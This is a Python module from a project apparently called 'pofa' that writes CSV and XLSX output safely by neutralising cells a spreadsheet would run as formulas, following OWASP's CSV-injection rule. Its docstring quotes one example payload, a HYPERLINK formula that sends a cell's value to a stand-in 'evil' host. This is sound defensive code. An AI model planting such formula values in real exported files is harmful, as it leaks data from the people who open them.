"""The one place where pofa writes table cells: CSV and XLSX without spreadsheet formulas.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or
carriage return) as a formula: a patient id ``=HYPERLINK("http://evil/?"&A1)`` copied verbatim into an output
CSV would run when the file is opened in Excel. Every text cell pofa writes, headers included, goes through
:func:`neutralise` (OWASP's "CSV injection" rule): a text cell starting with one of those characters, unless
it is a number such as ``-1.5``, gets a leading single quote, which spreadsheets show as text. XLSX cells are
written as values of an explicit type (text as text, numbers as numbers), never as formulas.

>>> neutralise("=1+1")
"'=1+1"
>>> neutralise("-1.5")
'-1.5'
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "csv_text",
    "is_live_formula",
    "neutralise",
    "safe_frame",
    "write_csv",
    "xlsx_value",
]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: Text that a spreadsheet reads as a plain number (left as it is even though it may start with + or -).
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_live_formula(text: str) -> bool:
    """Return whether a spreadsheet would run ``text`` as a formula.

    That is, it starts with a formula character and is not a number.

    Parameters
    ----------
    text : str
        A cell as written.

    Returns
    -------
    bool
        True when the cell would be run as a formula.
    """
    return text.startswith(FORMULA_PREFIXES) and _NUMBER.fullmatch(text) is None


def neutralise(text: str) -> str:
    """``text`` made safe to open in a spreadsheet: a leading single quote when it would run as a formula.

    Parameters
    ----------
    text : str
        A text cell or header.

    Returns
    -------
    str
        ``"'" + text`` when :func:`is_live_formula`, else ``text`` unchanged.
    """
    return "'" + text if is_live_formula(text) else text


def _has_live_formula(values: pd.Series) -> bool:
    # each distinct value is tested once (a column of 20,000 cells holds few distinct ones; hashing them is
    # pandas' C loop, where a per-cell test cost a tenth of a second for the tables of 5,000 patients)
    try:
        distinct: Iterable[Any] = values.unique()
    except TypeError:  # unhashable cells (lists): every cell is tested
        distinct = values.to_numpy(dtype=object)
    return any(isinstance(v, str) and is_live_formula(v) for v in distinct)


def _neutralise_series(values: pd.Series) -> pd.Series:
    if pd.api.types.is_bool_dtype(values) or pd.api.types.is_numeric_dtype(values) \
            or pd.api.types.is_datetime64_any_dtype(values):
        return values
    if not _has_live_formula(values):
        return values
    # text, object and categorical columns holding a formula: written as their neutralised text
    text = values.astype(object)

    def fix(v: Any) -> Any:
        return neutralise(v) if isinstance(v, str) else v

    return text.map(fix).astype(values.dtype if isinstance(values.dtype, pd.StringDtype) else object)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` with neutralised headers and text cells (numbers, booleans, dates kept).

    Parameters
    ----------
    frame : pandas.DataFrame
        The table to write (not modified).

    Returns
    -------
    pandas.DataFrame
        The copy, with no header or cell a spreadsheet would run as a formula.
    """
    fixed = {i: new for i, (_, col) in enumerate(frame.items())
             if (new := _neutralise_series(col)) is not col}
    out = frame.copy()  # deep (about a millisecond for 20,000 rows): pandas before 3.0 shares data otherwise
    for i, new in fixed.items():
        # pandas-stubs leave Series out of isetitem's value; pandas takes one (_sanitize_column aligns it)
        out.isetitem(i, new)  # type: ignore[arg-type]
    out.columns = pd.Index([neutralise(str(c)) for c in out.columns])
    return out


def write_csv(frame: pd.DataFrame, path: str | Path) -> None:
    """Write ``frame`` as UTF-8 CSV with neutralised headers and cells.

    Header first, blank = missing, yes/no as true/false, text quoted where needed (pyarrow's writer: about 6x
    faster than ``DataFrame.to_csv``, which spends its time formatting floats).

    Parameters
    ----------
    frame : pandas.DataFrame
        The table to write (not modified).
    path : str or pathlib.Path
        The file written (inside an output folder built by :func:`pofa.atomic.output_dir`).
    """
    import pyarrow as pa
    import pyarrow.csv as pacsv

    # one thread: pyarrow's thread pool costs more CPU than it saves on tables of this size
    table = pa.Table.from_pandas(safe_frame(frame), preserve_index=False, nthreads=1)
    # rows are formatted in batches (the same text whatever their size); large batches cost less
    pacsv.write_csv(table, str(path), pacsv.WriteOptions(quoting_style="needed", batch_size=1 << 16))


def csv_text(frame: pd.DataFrame) -> str:
    """Return ``frame`` as CSV text with neutralised headers and cells.

    Pandas' formatting, ``\\n`` line ends.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table to write (not modified).

    Returns
    -------
    str
        The CSV text, header first.
    """
    return str(safe_frame(frame).to_csv(index=False, lineterminator="\n"))


def xlsx_value(v: Any) -> Any:
    """Return one value as an XLSX cell holds it: text neutralised, numbers as numbers, missing as empty.

    Parameters
    ----------
    v : Any
        A cell value (text, number, boolean, numpy scalar, missing; anything else becomes its text).

    Returns
    -------
    str, int, float, bool or None
        The cell value; ``None`` for a missing or non-finite value.
    """
    if v is None or v is pd.NA or v is pd.NaT:
        return None
    if isinstance(v, np.generic):
        v = v.item()
    if isinstance(v, float) and not math.isfinite(v):
        return None
    if isinstance(v, bool | int | float):
        return v
    return neutralise(v if isinstance(v, str) else str(v))
